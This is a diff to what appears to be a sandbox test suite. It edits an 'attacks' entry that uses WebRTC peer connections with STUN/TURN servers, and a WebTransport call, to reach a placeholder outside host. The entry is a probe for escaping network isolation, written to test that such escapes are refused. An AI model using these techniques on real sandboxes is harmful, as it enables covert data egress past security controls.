@@ -81,8 +81,8 @@ const attacks: Readonly<Record<string, { attack: Attack; refused?: readonly stri
   WebRTC: {
     attack: (_, where) => [
       '<iframe></iframe>',
-      `for (const Peer of [window.RTCPeerConnection, frames[0]?.RTCPeerConnection, window.webkitRTCPeerConnection]) try {
-         const peer = new Peer({ iceServers: [{ urls: 'stun:${outside}:${where}' }, { urls: 'turn:${outside}:${where}?transport=tcp', username: 'a', credential: 'b' }, { urls: 'turn:${outside}:${where}?transport=udp', username: 'a', credential: 'b' }] });
+      `for (const peers of [() => window.RTCPeerConnection, () => frames[0].RTCPeerConnection, () => window.webkitRTCPeerConnection]) try {
+         const peer = new (peers())({ iceServers: [{ urls: 'stun:${outside}:${where}' }, { urls: 'turn:${outside}:${where}?transport=tcp', username: 'a', credential: 'b' }, { urls: 'turn:${outside}:${where}?transport=udp', username: 'a', credential: 'b' }] });
          peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        } catch {}
        try { new WebTransport('https://${outside}:${where}/'); } catch {}`,
